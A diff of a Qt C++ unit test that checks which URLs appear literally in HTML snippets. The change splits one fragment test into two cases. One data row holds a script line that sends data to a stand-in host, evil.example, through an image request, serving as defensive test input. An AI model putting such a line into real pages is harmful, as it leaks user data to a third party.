@@ -35,8 +35,10 @@ void tst_WrittenAddresses::onlyWrittenAddressesMatch_data()
                                   << "https://x.org/i.png" << true;
     QTest::newRow("empty path") << "<iframe src=\"https://x.org\"></iframe>"
                                 << "https://x.org/" << true;
-    QTest::newRow("fragment") << "<a href='https://x.org/p'>"
-                              << "https://x.org/p#top" << true;
+    QTest::newRow("fragment written") << "<a href='https://x.org/p#top'>"
+                                      << "https://x.org/p#top" << true;
+    QTest::newRow("fragment not written") << "<a href='https://x.org/p'>"
+                                          << "https://x.org/p#top" << false;
     QTest::newRow("style sheet url()") << "<p style=\"background:url(https://img.example/bg.png)\">"
                                        << "https://img.example/bg.png" << true;
     QTest::newRow("query a script appends") << "<script>new Image().src = 'https://evil.example/?d=' + data;</script>"
